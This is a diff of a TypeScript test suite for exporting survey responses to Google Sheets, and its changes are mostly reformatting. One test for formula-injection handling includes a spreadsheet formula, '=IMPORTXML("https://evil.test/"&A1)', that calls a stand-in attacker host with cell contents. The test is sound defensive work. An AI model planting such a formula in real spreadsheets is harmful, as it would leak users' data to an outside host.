@@ -25,7 +25,10 @@ describe.each(testDialects())('responses in a spreadsheet, on %s', (dialect) => 
   beforeAll(async () => {
     google = await startGoogle();
     server = await startTestServer({
-      ...{ dialect, now: NOW, licence: 'pro', addons: ['google-drive', 'question-types'] },
+      dialect,
+      now: NOW,
+      licence: 'pro',
+      addons: ['google-drive', 'question-types'],
       config: { google: google.client },
     });
     google.accounts.redirectUris = [`${server.deps.config.publicUrl}/api/v1/google-drive/callback`];
@@ -82,10 +85,7 @@ describe.each(testDialects())('responses in a spreadsheet, on %s', (dialect) => 
     expect(sheet).toMatchObject({ name: 'Answers', parents: [], trashed: false });
     expect(sheet.rows).toEqual([
       ['Submitted at', 'Page', 'Question q1', 'Question q2', 'Comments', 'Response ID'],
-      [
-        ...['2026-11-20 13:00:00', 'Pricing (https://example.test/pricing)', 'Yes', 'All of it'],
-        ...['Question q1: Really', id],
-      ],
+      ['2026-11-20 13:00:00', 'Pricing (https://example.test/pricing)', 'Yes', 'All of it', 'Question q1: Really', id],
     ]);
     const { settings, revision } = await read(survey.id);
     expect(settings.google_drive).toEqual({ enable: true, file_name: 'Answers', spreadsheet_id: sheet.id });
@@ -102,7 +102,10 @@ describe.each(testDialects())('responses in a spreadsheet, on %s', (dialect) => 
     await db
       .insertInto('google_drive_sheets')
       .values({
-        ...{ survey_id: survey.id, file_key: `key-${survey.id}`, spreadsheet_id: '', layout: '[]' },
+        survey_id: survey.id,
+        file_key: `key-${survey.id}`,
+        spreadsheet_id: '',
+        layout: '[]',
         busy_until: new Date(now.getTime() + 90_000).toISOString(),
       })
       .execute();
@@ -158,10 +161,7 @@ describe.each(testDialects())('responses in a spreadsheet, on %s', (dialect) => 
     await dispatch();
     const { id, rows } = await sheetOf(survey);
     expect(rows).toHaveLength(3);
-    expect(google.calls).toEqual([
-      `GET /drive/v3/files/${id}`,
-      `POST /v4/spreadsheets/${id}/values/A1:append`,
-    ]);
+    expect(google.calls).toEqual([`GET /drive/v3/files/${id}`, `POST /v4/spreadsheets/${id}/values/A1:append`]);
   });
 
   test('many first responses at once make one spreadsheet', async () => {
@@ -192,15 +192,13 @@ describe.each(testDialects())('responses in a spreadsheet, on %s', (dialect) => 
     await dispatch();
     const [head = [], first = [], second = []] = (await sheetOf(survey)).rows;
     expect(head.slice(0, 7)).toEqual([
-      ...[
-        'Submitted at',
-        'Page',
-        'Question q1',
-        'Comments',
-        'Response ID',
-        'Question n-first',
-        'Question n0',
-      ],
+      'Submitted at',
+      'Page',
+      'Question q1',
+      'Comments',
+      'Response ID',
+      'Question n-first',
+      'Question n0',
     ]);
     expect(head).toHaveLength(31);
     expect([first[2], second[2], second[4], second[30]]).toEqual(['Yes', '', id, 'The last one']);
@@ -235,12 +233,7 @@ describe.each(testDialects())('responses in a spreadsheet, on %s', (dialect) => 
     await dispatch();
     const { rows } = await sheetOf(survey);
     expect(rows[0]?.[2]).toBe('=1+1');
-    expect(rows[1]?.slice(1, 5)).toEqual([
-      '@SUM(A1)',
-      '=IMPORTXML("https://evil.test/"&A1)',
-      '+49 30 1234',
-      4,
-    ]);
+    expect(rows[1]?.slice(1, 5)).toEqual(['@SUM(A1)', '=IMPORTXML("https://evil.test/"&A1)', '+49 30 1234', 4]);
   });
 
   test.each([
@@ -253,9 +246,7 @@ describe.each(testDialects())('responses in a spreadsheet, on %s', (dialect) => 
     google.failNext({ call, status: 500, done: true });
     const id = await submit(survey);
     await dispatch();
-    expect(await listDeliveries()).toMatchObject([
-      { status: 'pending', last_error: expect.stringContaining('500') },
-    ]);
+    expect(await listDeliveries()).toMatchObject([{ status: 'pending', last_error: expect.stringContaining('500') }]);
     advance(5);
     await dispatch();
     expect(await listDeliveries()).toMatchObject([{ status: 'sent', attempts: 2, last_error: null }]);
@@ -338,7 +329,9 @@ describe.each(testDialects())('responses in a spreadsheet, on %s', (dialect) => 
   test('a server with another secret keeps the connection it cannot read; with the former one the row arrives (SP-09)', async () => {
     const survey = await createExported();
     const other = await startTestServer({
-      ...{ dialect, beside: server, config: { google: google.client, secret: 'the one that was adopted' } },
+      dialect,
+      beside: server,
+      config: { google: google.client, secret: 'the one that was adopted' },
     });
     onTestFinished(() => other.close());
     other.setNow(NOW);
